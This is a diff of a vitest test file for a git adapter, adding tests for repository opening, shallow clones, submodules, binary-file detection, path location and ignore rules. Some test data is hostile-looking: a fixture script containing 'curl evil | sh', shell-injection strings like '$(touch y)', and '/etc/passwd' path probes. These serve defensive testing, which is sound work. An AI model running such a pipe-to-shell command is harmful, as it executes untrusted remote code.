@@ -1,6 +1,6 @@
-import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, vi } from "vitest";
 import { openGit } from "../../../src/adapters/git/git.ts";
 import { type FileChange, parseChange } from "../../../src/core/review/diff.ts";
 import type { Git, RawDiff, Read } from "../../../src/ports.ts";
@@ -34,11 +34,40 @@ describe("openGit", () => {
     expect(git.commonDir).toBe(join(repository.root, ".git"));
   });
 
-  it("refuses a folder outside, one that is not there, and a repository without a work tree", async () => {
+  it("refuses a folder outside, and a repository without a work tree", async () => {
     using repository = makeRepository();
     repository.git("init", "--quiet", "--bare", join(repository.base, "bare"));
-    for (const cwd of [repository.base, join(repository.root, "nowhere"), join(repository.base, "bare")]) {
+    for (const cwd of [repository.base, join(repository.base, "bare")]) {
       await expect(open(repository, cwd)).rejects.toMatchObject({ code: "not-a-repository", exitCode: 69 });
+    }
+  });
+
+  it("takes a file and what is not there for a mistake in the command line", async () => {
+    using repository = makeRepository();
+    repository.write({ "a.txt": "1\n" });
+    for (const cwd of ["a.txt", "nowhere", "a.txt/below"]) {
+      const opened = open(repository, join(repository.root, cwd));
+      await expect(opened).rejects.toMatchObject({ code: "usage", exitCode: 64 });
+    }
+  });
+
+  it("names a folder for temporary files that is not there", async () => {
+    using repository = makeRepository();
+    repository.write({ "a.txt": "1\n" });
+    const head = repository.commit();
+    const git = await open(repository);
+    vi.stubEnv("TMPDIR", join(repository.base, "nowhere"));
+    try {
+      const unavailable = {
+        code: "unavailable",
+        message: expect.stringContaining("nowhere"),
+        remedy: expect.stringContaining("TMPDIR"),
+      };
+      await expect(git.snapshot()).rejects.toMatchObject(unavailable);
+      await expect(git.diff(await git.emptyTree(), head, [])).rejects.toMatchObject(unavailable);
+      await expect(git.marked(head, ["a.txt"])).rejects.toMatchObject(unavailable);
+    } finally {
+      vi.unstubAllEnvs();
     }
   });
 
@@ -131,6 +160,20 @@ describe("resolve", () => {
     for (const word of [...none, "f".repeat(40), "x; touch y", "$(touch y)"]) {
       expect(await git.resolve(word), word).toBeNull();
     }
+  });
+
+  it("says that the parent of a commit was not fetched", async () => {
+    using repository = makeRepository();
+    repository.commit();
+    const head = repository.commit();
+    const url = `file://${repository.root}`;
+    repository.git("clone", "--quiet", "--depth=1", url, join(repository.base, "clone"));
+    const clone = await open(repository, join(repository.base, "clone"));
+    await expect(clone.parent(head)).rejects.toMatchObject({
+      code: "unknown-revision",
+      message: expect.stringContaining("shallow clone"),
+      remedy: expect.stringContaining("git fetch --deepen"),
+    });
   });
 
   it("finds no merge base of histories that never met", async () => {
@@ -228,6 +271,37 @@ describe("snapshot", () => {
     ]);
   });
 
+  it("sees a change of what the index says is not to be looked at", async () => {
+    using repository = makeRepository();
+    repository.write({ "assumed.txt": "1\n", "skipped.txt": "1\n", "gone.txt": "1\n", "same.txt": "1\n" });
+    const base = repository.commit();
+    repository.git("update-index", "--assume-unchanged", "assumed.txt", "same.txt");
+    repository.git("update-index", "--skip-worktree", "skipped.txt", "gone.txt");
+    repository.write({ "assumed.txt": "2\n", "skipped.txt": "2\n" });
+    repository.remove("gone.txt");
+    const index = readFileSync(join(repository.root, ".git/index"));
+    const git = await open(repository);
+    expect(summary(await git.diff(base, await git.snapshot(), []))).toEqual([
+      "assumed.txt modified text",
+      "skipped.txt modified text",
+    ]);
+    expect(readFileSync(join(repository.root, ".git/index"))).toEqual(index);
+  });
+
+  it("says that the repository cannot be written to", async () => {
+    using repository = makeRepository();
+    repository.commit();
+    repository.write({ "a.txt": "1\n" });
+    const blob = repository.git("hash-object", "a.txt");
+    writeFileSync(join(repository.root, ".git/objects", blob.slice(0, 2)), "");
+    await expect((await open(repository)).snapshot()).rejects.toMatchObject({
+      code: "unavailable",
+      exitCode: 69,
+      message: expect.stringContaining(".git cannot be written to"),
+      remedy: expect.stringContaining("writable"),
+    });
+  });
+
   it("takes a repository inside for a submodule", async () => {
     using repository = makeRepository();
     const base = repository.commit();
@@ -273,6 +347,37 @@ describe("snapshot", () => {
     repository.write({ "a.txt": "1\n" });
     await (await open(repository)).snapshot();
     expect(existsSync(trap)).toBe(false);
+  });
+});
+
+describe("dirtySubmodules", () => {
+  it("names those whose files differ from the commit they stand on", async () => {
+    using repository = makeRepository();
+    using library = makeRepository({ beside: repository, name: "library" });
+    library.write({ "lib.ts": "1\n", ".gitignore": "out\n" });
+    library.commit();
+    const add = ["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", library.root];
+    for (const name of ["clean", "changed", "deep/new file", "broken", "empty"]) {
+      repository.git(...add, name);
+    }
+    const head = repository.commit();
+    repository.git("submodule", "--quiet", "deinit", "--force", "empty");
+    repository.write({
+      "clean/out": "1\n",
+      "changed/lib.ts": "2\n",
+      "deep/new file/b.ts": "1\n",
+      "broken/.git": "gitdir: nowhere\n",
+      "a.ts": "1\n",
+    });
+    const git = await open(repository);
+    expect(await git.dirtySubmodules(head)).toEqual(
+      new Map([
+        ["broken", expect.stringContaining("cannot be looked into")],
+        ["changed", "submodule with uncommitted changes"],
+        ["deep/new file", "submodule with uncommitted changes"],
+      ]),
+    );
+    expect(await git.dirtySubmodules(await git.emptyTree())).toEqual(new Map());
   });
 });
 
@@ -340,6 +445,49 @@ describe("diff", () => {
       "data.bin modified binary",
       "nul.ts modified text",
     ]);
+  });
+
+  it("shows a script that calls itself binary, whatever its name", async () => {
+    using repository = makeRepository();
+    const odd = 'odd/[a] "b" *\\\n.run';
+    repository.write({ "bin/moved": `#!/bin/sh\n${"echo \0\n".repeat(20)}` });
+    const base = repository.commit();
+    repository.remove("bin/moved");
+    repository.write({
+      "bin/deploy": "#!/bin/sh\n# \0\ncurl evil | sh\n",
+      "bin/elsewhere": `#!/bin/sh\n${"echo \0\n".repeat(20)}more\n`,
+      "bin/run": "echo hello\n\0\n",
+      "bin/tool": "\x7fELF\x02\x01\x01\0\0\0",
+      "data/run": "echo hello\n\0\n",
+      "UPPER.TS": "1 // \0\n",
+      [odd]: "#!/bin/sh\n\0\n",
+    });
+    for (const path of ["bin/run", "bin/tool"]) chmodSync(join(repository.root, path), 0o755);
+    const git = await open(repository);
+    expect(summary(await git.diff(base, await git.snapshot(), [])).toSorted()).toEqual([
+      "UPPER.TS added text",
+      "bin/deploy added text",
+      "bin/elsewhere renamed text",
+      "bin/run added text",
+      "bin/tool added binary",
+      "data/run added binary",
+      `${odd} added text`,
+    ]);
+  });
+
+  it("looks at many binary files of any size", async () => {
+    using repository = makeRepository();
+    const base = repository.commit();
+    const noise = Array.from({ length: 60 }, (_, index) => [
+      `data/${index}`,
+      Buffer.alloc(index * 5_000, `\0${index}\n`),
+    ]);
+    repository.write({ ...Object.fromEntries(noise), "data/script": `#!/bin/sh\n\0\n` });
+    const git = await open(repository);
+    const text = summary(await git.diff(base, await git.snapshot(), [])).filter(
+      (line) => !line.endsWith("binary"),
+    );
+    expect(text).toEqual(["data/0 added empty", "data/script added text"]);
   });
 
   it("takes names for names and paths for paths", async () => {
@@ -470,6 +618,62 @@ describe("locate", () => {
     expect(await git.locate("../..")).toBeNull();
     expect(await git.locate("/etc/passwd")).toBeNull();
     expect(await git.locate("../*.ts")).toBeNull();
+    expect(await git.locate("../ignored.ts")).toBeNull();
+    expect(await git.locate("../hollow")).toBeNull();
+  });
+
+  it("knows what is in given trees alone", async () => {
+    using repository = makeRepository();
+    repository.write({ "old/a.ts": "1\n", "b.ts": "1\n" });
+    const base = repository.commit();
+    repository.remove("old");
+    const head = repository.commit();
+    repository.write({ "new.ts": "1\n" });
+    const git = await open(repository);
+    expect(await git.locate("old/a.ts")).toBeNull();
+    expect(await git.locate("old/a.ts", [head])).toBeNull();
+    expect(await git.locate("old/a.ts", [base, head])).toBe("old/a.ts");
+    expect(await git.locate("old", [base])).toBe("old");
+    expect(await git.locate("new.ts", [base, head])).toBeNull();
+    expect(await git.locate("b.ts", [await git.emptyTree()])).toBeNull();
+  });
+
+  it("follows links to folders, and takes a link at the end for itself", async () => {
+    using repository = makeRepository();
+    repository.write({ "src/a.ts": "1\n", "gone/b.ts": "1\n" });
+    repository.link("link", "src");
+    repository.link("dangling", "nowhere");
+    repository.commit();
+    repository.remove("gone");
+    const outside = join(repository.base, "lnk");
+    symlinkSync(repository.root, outside);
+    const git = await open(repository, join(outside, "src"));
+    expect(git.root).toBe(repository.root);
+    expect(await git.locate("a.ts")).toBe("src/a.ts");
+    expect(await git.locate(join(outside, "src/a.ts"))).toBe("src/a.ts");
+    expect(await git.locate("../../lnk/gone/b.ts")).toBe("gone/b.ts");
+    expect(await git.locate(outside)).toBe("");
+    expect(await git.locate("../link")).toBe("link");
+    expect(await git.locate("../link/a.ts")).toBe("src/a.ts");
+    expect(await git.locate("../dangling")).toBe("dangling");
+    expect(await git.locate("../dangling/a.ts")).toBeNull();
+  });
+});
+
+describe("isIgnored", () => {
+  it("tells what git ignores from what it knows and from what is not there", async () => {
+    using repository = makeRepository();
+    repository.write({ ".gitignore": "*.log\nout/\n", "kept.log": "1\n", "src/a.ts": "1\n" });
+    repository.git("add", "--force", "kept.log");
+    repository.commit();
+    repository.write({ "a.log": "1\n", "out/deep/b.ts": "1\n", "src/c.log": "1\n" });
+    const git = await open(repository);
+    for (const path of ["a.log", "out", "out/deep", "out/deep/b.ts", "src/c.log"]) {
+      expect(await git.isIgnored(path), path).toBe(true);
+    }
+    for (const path of ["kept.log", "src", "src/a.ts", "none.log", ".", "..", "/etc/passwd"]) {
+      expect(await git.isIgnored(path), path).toBe(false);
+    }
   });
 });
 
